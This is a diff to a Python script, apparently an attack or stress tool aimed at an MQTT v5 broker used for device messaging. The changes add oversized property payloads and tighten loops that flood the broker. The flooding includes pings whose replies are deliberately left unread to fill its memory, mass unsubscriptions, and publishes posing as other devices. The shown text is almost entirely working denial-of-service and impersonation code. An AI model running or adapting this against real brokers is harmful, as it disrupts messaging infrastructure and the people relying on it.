@@ -21,7 +21,6 @@ PAUSE_S, PATIENT_PERIOD_S = 0.02, 1
 PINGS_A_RECORD = 8000  # of TLS, which has 16 KiB: the broker answers all of them before it reads from another connection
 PINGS = b"\xc0\0" * PINGS_A_RECORD
 counts, rages, ends = collections.Counter(), threading.Event(), threading.Event()
-numbers = itertools.count()
 
 
 def text(value):
@@ -29,13 +28,26 @@ def text(value):
     return len(raw).to_bytes(2, "big") + raw
 
 
-def packet(head, body):
-    length, left = b"", len(body)
+def number_of(length):
+    """As MQTT writes it."""
+    encoded = b""
     while True:
-        left, low = left >> 7, left & 0x7F
-        length += bytes([low | (0x80 if left else 0)])
-        if not left:
-            return bytes([head]) + length + body
+        length, low = length >> 7, length & 0x7F
+        encoded += bytes([low | (0x80 if length else 0)])
+        if not length:
+            return encoded
+
+
+def packet(head, body):
+    return bytes([head]) + number_of(len(body)) + body
+
+
+def properties(pairs, size):
+    every = pairs * (b"\x26" + text("k") + text(size * "x"))
+    return number_of(len(every)) + every
+
+
+LARGE_PROPERTIES = properties(20, 60000)
 
 
 def publish(topic, payload, qos=0, retain=False, number=1):
@@ -53,7 +65,7 @@ class Link:
         flags = 0x02 | (0x2C if will else 0)
         body = text("MQTT") + bytes([5, flags, 0, 60]) + b"\0" + text(client_id)
         if will:
-            body += b"\0" + text(will) + text("bad")
+            body += LARGE_PROPERTIES + text(will) + text("bad")
         self.socket.sendall(packet(0x10, body))
         answer = self.socket.recv(4096)
         if len(answer) < 4 or answer[3] != 0:
@@ -97,6 +109,11 @@ def retain_large(link):
     link.flood(publish(f"tc/v1/branch/B{n % 9}/dispatch/A{n % 9}", large, 1, True, n + 1) for n in range(60))
 
 
+def report_with_properties(link):
+    body = text(f"tc/v1/device/{OWN}/reply") + b"\0\1" + LARGE_PROPERTIES + b"{}"
+    link.flood(packet(0x32, body) for _ in range(100))
+
+
 def speak_for_others(link):
     link.flood(publish(f"tc/v1/device/A{n % 9}/{kind}", b"", 1, number=n % 65000 + 1)
                for n in range(5000) for kind in ("ask", "reply", "instruction", "confirm"))
@@ -108,36 +125,28 @@ def is_patient():
 
 # ---- what no limit forbids ----
 
-def ask_in_time(link):
-    """The largest asks and reports, as often as the guard takes them."""
+def be_patient(link):
+    """The largest asks and reports, as often as the guard takes them; between them pings, whose answers nobody reads, so that they
+    fill the broker's memory, and floods of unsubscriptions."""
     versions = json.dumps({"versions": {f"app-{n}": "9" * 60 for n in range(64)}, "nonce": "n1"}).encode()
-    number = 0
-    while is_patient():
-        number = number % 65000 + 1
+    filters = b"".join(text(f"tc/v1/device/{n}/ask") for n in range(500))
+    for number in itertools.cycle(range(1, 65000)):
         link.flood([publish(f"tc/v1/device/{OWN}/reply", b"{" * 30000, 1, number=number)] * 2)
         link.flood([publish(f"tc/v1/device/{OWN}/ask", versions)])
         link.flood([publish(f"tc/v1/device/{OWN}/presence", b" " * 1000, 1, True, number)])
-        rages.wait(PATIENT_PERIOD_S)
+        until = time.monotonic() + PATIENT_PERIOD_S
+        while is_patient() and time.monotonic() < until:
+            link.flood([PINGS, packet(0xA2, b"\0\1\0" + filters)])
+            counts["pings"] += PINGS_A_RECORD
+        if not is_patient():
+            return
 
 
-def ping_much(link):
-    """And reads no answer, so that they fill the broker's memory."""
-    while is_patient():
-        link.flood([PINGS])
-        counts["pings"] += PINGS_A_RECORD
-
-
-def unsubscribe_much(link):
-    filters = b"".join(text(f"tc/v1/device/{n}/ask") for n in range(500))
-    while is_patient():
-        link.flood([packet(0xA2, b"\0\1\0" + filters)])
-
-
-PATIENT_ACTS = [ask_in_time, ping_much, unsubscribe_much]
+PATIENT_ACTS = [be_patient]
 
 # ---- and the rest ----
 
-ACTS = [join_shares, ask_much, ask_badly, report_much, retain_large, speak_for_others]
+ACTS = [join_shares, ask_much, ask_badly, report_much, retain_large, report_with_properties, speak_for_others]
 
 
 def act_for_ever(act):
@@ -145,7 +154,7 @@ def act_for_ever(act):
         rages.wait()
     while is_patient() if act in PATIENT_ACTS else not ends.is_set():
         try:
-            link = Link(f"{OWN}/{next(numbers)}", f"tc/v1/device/{OWN if act in PATIENT_ACTS else 'A1'}/presence")
+            link = Link(OWN, f"tc/v1/device/{OWN if act in PATIENT_ACTS else 'A1'}/presence")
             counts["connected"] += 1
             act(link)
             link.close()
